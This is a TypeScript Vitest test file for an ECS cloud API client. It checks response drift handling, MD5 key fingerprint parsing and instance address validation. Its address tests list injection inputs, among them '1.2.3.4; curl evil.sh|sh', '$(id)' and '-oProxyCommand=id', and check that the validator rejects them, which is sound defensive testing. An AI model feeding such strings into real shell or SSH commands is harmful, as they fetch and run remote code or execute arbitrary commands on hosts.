import { beforeEach, describe, expect, it, vi } from 'vitest';
import { ApiError } from './api-error';
import {
  addressesReadFrom,
  drifts,
  fingerprintReadFrom,
  harmless,
  notAnswers,
  readDrifted,
  readInstead,
  titleOf,
} from './test-drift';
import type { Difference } from './test-drift';

beforeEach(() => void vi.stubGlobal('document', { baseURI: 'https://console.test/' }));

async function errorOf(reading: Promise<unknown>): Promise<ApiError> {
  const outcome: unknown = await reading.catch((error: unknown) => error);
  if (!(outcome instanceof ApiError)) throw new Error(`Accepted: ${JSON.stringify(outcome)}`);
  return outcome;
}

const titled = (differences: readonly Difference[]) =>
  differences.map((each) => [titleOf(each), each] as const);

describe('an answer that is not as documented', () => {
  it.each(titled(drifts))('%s is an error with words', async (_title, drift) => {
    const error = await errorOf(readDrifted(drift));
    expect(error.kind).toBe('bad-answer');
    expect(error.isUnclear).toBe(true);
    expect(error.message).toMatch(/^(What came back|ECS) [a-zA-Z ]+\.$/);
  });

  it.each(titled(harmless))('%s is taken', async (_title, difference) => {
    await expect(readDrifted(difference)).resolves.toHaveProperty('RequestId');
  });
});

describe('the fingerprint of a listed key pair', () => {
  const md5 = 'c284b4f9772bfe8d4cf7d7f1781a1ef0';

  it('is an MD5 in hex, with or without colons', async () => {
    expect(await fingerprintReadFrom(md5)).toBe(md5);
    const colons = md5.toUpperCase().match(/../g)?.join(':') ?? '';
    expect(await fingerprintReadFrom(colons)).toBe(md5);
  });

  it.each(['', 'SHA256:AAAA', md5.slice(1), `${md5}00`, md5.replace('c', 'g')])(
    'is not known where ECS lists “%s”',
    async (listed) => {
      expect(await fingerprintReadFrom(listed)).toBe('');
    },
  );
});

describe('the addresses of a listed instance', () => {
  it.each(['203.0.113.7', '2001:db8::7', '::ffff:203.0.113.7'])('are %s', async (listed) => {
    expect(await addressesReadFrom(listed)).toEqual([listed, listed, listed]);
  });

  it.each(['1.2.3.4; curl evil.sh|sh', '$(id)', '-oProxyCommand=id', '1.2.3', '1.2.3.4\n', 'a.b'])(
    'are left out where ECS lists “%s”',
    async (listed) => {
      expect(await addressesReadFrom(listed)).toEqual(['']);
    },
  );
});

describe('something instead of an answer', () => {
  it.each(notAnswers)('%s is an error with words', async (_what, body, status) => {
    const error = await errorOf(readInstead(body, status));
    expect(error).toMatchObject({ kind: 'bad-answer', status });
    expect(error.message).toBe('What came back is not an answer of the ECS API.');
  });
});
